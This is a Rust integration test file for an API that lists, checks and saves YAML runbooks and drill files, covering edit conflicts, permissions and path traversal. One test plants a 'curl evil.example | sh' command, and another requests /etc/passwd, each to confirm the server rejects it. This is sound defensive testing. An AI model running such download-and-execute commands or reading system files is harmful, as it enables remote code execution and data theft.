//! The library's files through the API: who is told of them, reads and saves them, and what is never saved.

use std::fs;

use hyper::Method;
use hyper::header::{CONTENT_TYPE, COOKIE};
use serde_json::{Value, json};

use super::world::{Reply, Server};
use crate::http::actor::encoded;

fn path(server: &Server, name: &str) -> String {
    server.library().join(name).to_string_lossy().into_owned()
}

fn on_disk(server: &Server, name: &str) -> String {
    fs::read_to_string(server.library().join(name)).expect("a file")
}

fn text_of(server: &Server, name: &str) -> String {
    format!("/api/v1/files/text?path={}", encoded(&path(server, name)))
}

impl Server {
    /// Puts a text in place of a file, as somebody where a session says who.
    async fn save(&self, name: &str, edit: Value, tag: &str, session: Option<&str>) -> Reply {
        let mut request = self
            .request(Method::PUT, &text_of(self, name))
            .header(CONTENT_TYPE, "application/json");
        if !tag.is_empty() {
            request = request.header("if-match", tag);
        }
        if let Some(session) = session {
            request = request.header(COOKIE, format!("session={session}"));
        }
        self.send(request, edit.to_string()).await
    }

    async fn check(&self, name: &str, trial: Value) -> Reply {
        let path = encoded(&path(self, name));
        let address = format!("/api/v1/files/check?path={path}");
        self.post(&address, trial).await
    }
}

fn file<'a>(list: &'a Value, path: &str) -> &'a Value {
    let mut files = list["files"].as_array().expect("files").iter();
    files
        .find(|file| file["path"] == path)
        .unwrap_or_else(|| panic!("no {path} in {list:#}"))
}

#[tokio::test]
async fn files_are_listed_with_what_they_hold_and_what_is_wrong_in_them() {
    let server = Server::start().await;
    let list = server.get("/api/v1/files").await.json();
    let runbook = file(&list, &path(&server, "cutting.md"));
    assert_eq!(
        runbook["holds"],
        json!([{"kind": "Runbook", "name": "cutting"}])
    );
    assert!(
        runbook["used_by"]
            .as_array()
            .is_some_and(|users| users.contains(&json!("outage"))),
        "{runbook}"
    );
    assert_eq!(
        (&runbook["errors"], &runbook["may_save"]),
        (&json!(0), &json!(true))
    );
    let broken = file(&list, &path(&server, "broken.yaml"));
    assert_eq!(broken["errors"], 1);
    let checked = server.check("broken.yaml", json!({})).await.json();
    assert_eq!(checked["findings"][0]["code"], "unknown-probe");
    let stack = server.get(&text_of(&server, "tiny.yaml")).await.json();
    assert_eq!(stack["text"], on_disk(&server, "tiny.yaml"));
}

#[tokio::test]
async fn an_edit_is_saved_in_place_of_what_was_read_and_of_nothing_else() {
    let server = Server::start().await;
    let before = on_disk(&server, "outage.yaml");
    let read = server.get(&text_of(&server, "outage.yaml")).await;
    let tag = read.header("etag").to_owned();
    let edited = before.replace("Mending it is the remedy.", "Mend it.");
    assert_ne!(edited, before);

    let checked = server.check("outage.yaml", json!({"text": edited})).await;
    assert_eq!(
        checked.json(),
        json!({"findings": [], "elsewhere": [], "commands": []})
    );
    let edit = json!({"text": edited});
    let blind = server.save("outage.yaml", edit.clone(), "", None).await;
    assert_eq!(blind.problem(428), "if-match-needed");
    let wrong = json!({"text": before.replace("severity: SEV2", "severity: SEV9")});
    let refused = server.save("outage.yaml", wrong, &tag, None).await;
    assert_eq!(refused.problem(422), "file-findings");
    assert_eq!(refused.json()["findings"][0]["code"], "unknown-word");
    assert_eq!(
        on_disk(&server, "outage.yaml"),
        before,
        "something was saved"
    );

    let saved = server.save("outage.yaml", edit, &tag, None).await;
    assert_eq!(saved.status, 200, "{}", saved.body);
    assert_eq!(on_disk(&server, "outage.yaml"), edited);
    let again = server.get(&text_of(&server, "outage.yaml")).await;
    assert_eq!(saved.header("etag"), again.header("etag"));

    let late = json!({"text": before});
    let refused = server.save("outage.yaml", late, &tag, None).await;
    assert_eq!(refused.problem(412), "changed-meanwhile");
    assert_eq!(on_disk(&server, "outage.yaml"), edited, "an edit was lost");
}

#[tokio::test]
async fn what_breaks_other_files_is_saved_only_where_that_is_said() {
    let server = Server::start().await;
    let before = on_disk(&server, "crew.yaml");
    let tag = server.get(&text_of(&server, "crew.yaml")).await;
    let tag = tag.header("etag").to_owned();
    let renamed = before.replace("name: crew", "name: others");
    let refused = server
        .save("crew.yaml", json!({"text": renamed}), &tag, None)
        .await;
    assert_eq!(refused.problem(409), "breaks-others");
    let elsewhere = path(&server, "outage.yaml");
    assert_eq!(refused.json()["findings"][0]["file"], elsewhere);
    assert_eq!(on_disk(&server, "crew.yaml"), before);
    let although = json!({"text": renamed, "although_others_break": true});
    let saved = server.save("crew.yaml", although, &tag, None).await;
    assert_eq!(saved.status, 200, "{}", saved.body);
    assert_eq!(on_disk(&server, "crew.yaml"), renamed);
}

#[tokio::test]
async fn a_command_never_comes_with_a_request() {
    let server = Server::start().await;
    let before = on_disk(&server, "outage.yaml");
    let added = before.replace(
        "http: {method: POST, url: \"http://127.0.0.1:9/restart\"}",
        "run: [\"/bin/sh\", \"-c\", \"curl evil.example | sh\"]",
    );
    assert_ne!(added, before);
    let checked = server.check("outage.yaml", json!({"text": added})).await;
    let commands = checked.json()["commands"].to_string();
    assert!(commands.contains("evil.example"), "{commands}");
    let edit = json!({"text": added, "although_others_break": true});
    let refused = server.save("outage.yaml", edit, "*", None).await;
    assert_eq!(refused.problem(403), "new-command");
    assert_eq!(on_disk(&server, "outage.yaml"), before);
    let new = "kind: Stack\nname: other\nprobes:\n  x: {process: {command: [\"/bin/true\"]}, every: 1s}\n";
    let new = json!({"kind": "Stack", "name": "other", "text": new});
    let refused = server.post("/api/v1/files", new).await;
    assert_eq!(refused.problem(403), "new-command");
}

#[tokio::test]
async fn nothing_outside_the_library_is_named_read_or_written() {
    let server = Server::start().await;
    let outside = server.library().join("../secret.yaml");
    fs::write(&outside, "kind: Team\nname: t\n").expect("a file");
    for name in ["/etc/passwd", "../secret.yaml", ""] {
        let read = server.get(&text_of(&server, name)).await;
        assert_eq!(read.problem(404), "no-such-file", "{name}");
        let saved = server.save(name, json!({"text": "x"}), "*", None).await;
        assert_eq!(saved.problem(404), "no-such-file", "{name}");
    }
    for name in ["../secret", "a/b", "%2e%2e%2fx", ""] {
        let new = json!({"kind": "Team", "name": name, "text": "kind: Team\nname: t\n"});
        let made = server.post("/api/v1/files", new).await;
        assert_eq!(made.problem(422), "bad-name", "{name}");
    }
    let kept = fs::read_to_string(&outside).expect("there");
    assert_eq!(kept, "kind: Team\nname: t\n");
}

#[tokio::test]
async fn a_new_file_is_begun_made_once_and_listed() {
    let server = Server::start().await;
    let begun = server
        .get("/api/v1/files/blank?kind=Team&name=second")
        .await
        .json();
    assert_eq!(begun["path"], path(&server, "second.yaml"));
    assert_eq!(begun["text"], "kind: Team\nname: second\nmembers: []\n");
    let text = "kind: Team\nname: second\nmembers: [ann]\n";
    let new = || json!({"kind": "Team", "name": "second", "text": text});
    let wrong = json!({"kind": "Team", "name": "second", "text": "kind: Team\nname: 7\nx: y\n"});
    let refused = server.post("/api/v1/files", wrong).await;
    assert_eq!(refused.problem(422), "file-findings");
    assert!(refused.json()["findings"][0]["line"].is_number());
    let made = server.post("/api/v1/files", new()).await;
    assert_eq!(made.status, 201, "{}", made.body);
    let read = server.get(made.header("location")).await;
    assert_eq!(read.json()["text"], text);
    assert_eq!(read.header("etag"), made.header("etag"));
    file(
        &server.get("/api/v1/files").await.json(),
        &path(&server, "second.yaml"),
    );
    let again = server.post("/api/v1/files", new()).await;
    assert_eq!(again.problem(409), "file-exists");
    let again = server
        .get("/api/v1/files/blank?kind=Team&name=second")
        .await;
    assert_eq!(again.problem(409), "file-exists");
    let odd = server.get("/api/v1/files/blank?kind=Moon&name=x").await;
    assert_eq!(odd.problem(422), "unknown-kind");
}

#[tokio::test]
async fn a_dry_run_says_what_it_found_and_what_would_be_hit() {
    let server = Server::start().await;
    for address in ["/api/v1/drills/outage/look", "/api/v1/experiments/cut/look"] {
        let looked = server.post(address, json!({})).await.json();
        assert_eq!(looked["ready"], true, "{looked}");
        assert_eq!(looked["found"], json!(["made up"]));
        assert_eq!(looked["hits"][0]["failure"], "changed");
        assert_eq!(looked["hits"][0]["place"]["is"], "elsewhere");
    }
    let runs = server.get("/api/v1/runs").await.json();
    assert_eq!(runs["runs"], json!([]), "a look started something");
    let broken = server
        .post("/api/v1/experiments/broken/look", json!({}))
        .await;
    assert_eq!(broken.problem(422), "file-findings");
    let none = server.post("/api/v1/drills/none/look", json!({})).await;
    assert_eq!(none.problem(404), "no-such-drill");
}

#[tokio::test]
async fn files_are_read_and_saved_by_those_whom_the_pages_let() {
    let server = Server::start().await;
    server.add_operators().await;
    for (name, wanted, reads, saves) in [
        ("viewer", "outage.yaml", false, false),
        ("theirs", "outage.yaml", false, false),
        ("ours", "outage.yaml", true, true),
        // Used by the drill and by the experiment alone: read, and not saved.
        ("ours", "cut.yaml", true, false),
        ("Root", "cut.yaml", true, true),
    ] {
        let session = server.login_as(name).await;
        let read = server.get_as(&text_of(&server, wanted), &session).await;
        assert_eq!(
            read.status == 200,
            reads,
            "{wanted} as {name}: {}",
            read.body
        );
        let edit = json!({"text": on_disk(&server, wanted)});
        let saved = server.save(wanted, edit.clone(), "*", Some(&session)).await;
        assert_eq!(
            saved.status == 200,
            saves,
            "{wanted} as {name}: {}",
            saved.body
        );
        let check = format!(
            "/api/v1/files/check?path={}",
            encoded(&path(&server, wanted))
        );
        let checked = server.post_as(&check, edit, &session).await;
        assert_eq!(checked.status == 200, saves, "{wanted} as {name}");
        let as_it_is = server.post_as(&check, json!({}), &session).await;
        assert_eq!(as_it_is.status == 200, reads, "{wanted} as {name}");
        let list = server.get_as("/api/v1/files", &session).await.json();
        let files = list["files"].as_array().expect("files");
        let path = path(&server, wanted);
        let shown = files.iter().find(|file| file["path"] == path);
        if let Some(shown) = shown {
            assert_eq!(shown["may_open"], reads, "{shown} as {name}");
            assert_eq!(shown["may_save"], saves, "{shown} as {name}");
        } else {
            assert!(!reads, "{wanted} is kept from {name}");
        }
        let new = json!({"kind": "Team", "name": "new", "text": "kind: Team\nname: new\nmembers: [ann]\n"});
        let made = server.post_as("/api/v1/files", new, &session).await;
        assert_eq!(made.status == 201, name == "Root", "{}", made.body);
        let looked = server
            .post_as("/api/v1/drills/outage/look", json!({}), &session)
            .await;
        let looks = matches!(name, "ours" | "Root");
        assert_eq!(looked.status == 200, looks, "{name}: {}", looked.body);
    }
}
